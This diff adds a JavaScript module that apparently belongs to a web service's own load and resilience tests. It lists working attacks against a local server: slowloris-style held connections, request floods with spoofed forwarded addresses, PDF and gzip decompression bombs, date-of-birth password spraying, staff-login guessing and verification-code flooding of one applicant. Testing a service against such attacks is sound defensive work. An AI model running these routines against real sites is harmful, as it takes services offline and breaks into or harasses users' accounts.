@@ -1,0 +1,147 @@
+/**
+ * The attacks: what each sends, from where, and how much at a time. A row is one attack; whoever finds another adds a row.
+ */
+import { connect } from 'node:net';
+import { gzipSync } from 'node:zlib';
+import { applicant } from '../applicants.mjs';
+import { VICTIM } from './people.mjs';
+import { hugeIndexPdf, inflatingPdf, longNumberPdf } from './bombs.mjs';
+
+/** An address of the loopback network that none of the people has, and an IPv6 network of which the attacker has all. */
+const ADDRESS = '127.0.0.66';
+const anyOf = (network) => `${network}:${hex()}:${hex()}:${hex()}:${hex()}`;
+const hex = () => Math.floor(Math.random() * 0x10000).toString(16);
+const random = () => Math.random().toString(36).slice(2, 10);
+
+/** Milliseconds after which a connection that the server ended is opened again. */
+const AGAIN = 200;
+
+/**
+ * @typedef {{ pool: import('undici').Pool, port: number, isOver: () => boolean, note: (answer: string) => void }} Site
+ * @typedef {{ name: string, atOnce: number, one: (site: Site, n: number) => Promise<unknown> }} Attack
+ * `one` is done again and again by `atOnce` workers; it must end soon once the attack is over.
+ */
+
+/** @type {Attack[]} */
+export const ATTACKS = [
+  { name: 'slow bodies', atOnce: 520, one: (site) => hold(site, halfBody('/api/v1/grievance')) },
+  { name: 'bodies that drip', atOnce: 200, one: (site) => hold(site, halfBody('/api/v1/result'), ' ') },
+  { name: 'half-sent headers', atOnce: 520, one: (site) => hold(site, 'GET / HTTP/1.1\r\nHost: x\r\nX-A:') },
+  { name: 'silent connections', atOnce: 520, one: (site) => hold(site, '') },
+  { name: 'search pages', atOnce: 40, one: get(() => `/search?q=${random()}`) },
+  { name: 'lists of notices', atOnce: 40, one: get(() => `/api/v1/notice?regex=${random()}&limit=50`) },
+  { name: 'pages that are not there', atOnce: 40, one: get(() => `/${random()}`) },
+  { name: 'reports of browsers', atOnce: 20, one: post('/monitoring', () => Array(50).fill(REPORT)) },
+  { name: 'long number in a PDF', atOnce: 2, one: grievance(() => longNumberPdf) },
+  { name: 'huge index in a PDF', atOnce: 2, one: grievance(() => hugeIndexPdf) },
+  { name: 'decompression', atOnce: 4, one: (site, n) => (n % 2 ? gzipped : grievance(() => inflatingPdf))(site, n) },
+  { name: 'grievances', atOnce: 10, one: grievance() },
+  {
+    name: 'date of birth spraying',
+    atOnce: 10,
+    one: post('/api/v1/result?category=diploma', (n) => ({
+      email: `applicant.${n % 1_000}@load.example`,
+      password: '15-08-2006',
+    })),
+  },
+  {
+    name: 'staff login polling',
+    atOnce: 4,
+    one: post('/api/v1/auth/login', () => ({ email: 'notices@seu.example', password: random() })),
+  },
+  { name: 'code requests', atOnce: 4, one: askForCode },
+];
+
+const REPORT = { kind: 'error', remote: 'shell', version: '', name: 'Error', message: 'made up' };
+
+const halfBody = (path) =>
+  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`;
+
+/** Holds a connection on which this was sent until the server ends it or the attack is over. `drip` is sent each second. */
+function hold({ port, isOver, note }, text, drip) {
+  return new Promise((resolve) => {
+    let answer = 'no answer';
+    const socket = connect({ host: '127.0.0.1', port, localAddress: ADDRESS }, () => socket.write(text));
+    let seconds = 0;
+    const timer = setInterval(() => {
+      if (isOver()) socket.destroy();
+      else if (drip && ++seconds % (1_000 / AGAIN) === 0) socket.write(drip);
+    }, AGAIN);
+    socket.on('error', () => {});
+    socket.on('data', (bytes) => {
+      answer = /^HTTP\/1\.1 (\d{3})/.exec(bytes.toString('latin1', 0, 20))?.[1] ?? answer;
+    });
+    socket.once('close', () => {
+      clearInterval(timer);
+      note(isOver() ? 'held to the end' : answer);
+      setTimeout(resolve, AGAIN);
+    });
+  });
+}
+
+async function ask({ pool, isOver, note }, request, network = '2001:db8:bad:1') {
+  const over = new AbortController();
+  const timer = setInterval(() => isOver() && over.abort(), AGAIN);
+  try {
+    const headers = { ...request.headers, 'x-forwarded-for': anyOf(network) };
+    const answer = await pool.request({ method: 'GET', ...request, headers, signal: over.signal });
+    await answer.body.dump({ limit: Number.MAX_SAFE_INTEGER });
+    note(answer.statusCode);
+    return answer.headers;
+  } catch {
+    // Refused or broken off: the next one.
+    note(isOver() ? 'waiting at the end' : 'broken off');
+    return {};
+  } finally {
+    clearInterval(timer);
+  }
+}
+
+function get(path) {
+  return (site) => ask(site, { path: path() });
+}
+
+function post(path, body) {
+  const headers = { 'content-type': 'application/json' };
+  return (site, n) => ask(site, { method: 'POST', path, headers, body: JSON.stringify(body(n)) });
+}
+
+/** Somebody who knows an applicant's e-mail address and date of birth has codes sent to him, one after the other. */
+async function askForCode(site) {
+  const { email, birthDate } = applicant(VICTIM);
+  const found = await signInAs({ email, password: birthDate })(site);
+  const cookie = String(found['set-cookie'] ?? '').split(';')[0];
+  await ask(site, { method: 'POST', path: '/api/v1/result/code', headers: { cookie } });
+}
+
+const signInAs = (who) => post('/api/v1/result?category=diploma', () => who);
+
+function gzipped(site) {
+  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' };
+  return ask(site, { method: 'POST', path: '/api/v1/result?category=diploma', headers, body: ZEROS });
+}
+
+const ZEROS = gzipSync(Buffer.alloc(16 * 1024 * 1024));
+
+const FIELDS = {
+  kind: 'student',
+  name: 'Load Person',
+  email: 'load@attacker.example',
+  mobile: '9876500000',
+  category: 'other',
+  subject: 'One of very many',
+  message: 'This grievance was sent to find out who waits for it.',
+};
+
+function grievance(pdf) {
+  if (!pdf) return post('/api/v1/grievance', () => FIELDS);
+  return (site) => {
+    const edge = `edge${random()}`;
+    const part = (name, more = '') => `--${edge}\r\nContent-Disposition: form-data; name="${name}"${more}\r\n`;
+    const fields = Object.entries(FIELDS).map(([name, value]) => `${part(name)}\r\n${value}\r\n`);
+    const file = `${part('pdf', '; filename="x.pdf"')}Content-Type: application/pdf\r\n\r\n`;
+    const body = Buffer.concat([Buffer.from(fields.join('') + file), pdf(), Buffer.from(`\r\n--${edge}--\r\n`)]);
+    const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
+    return ask(site, { method: 'POST', path: '/api/v1/grievance', headers, body });
+  };
+}
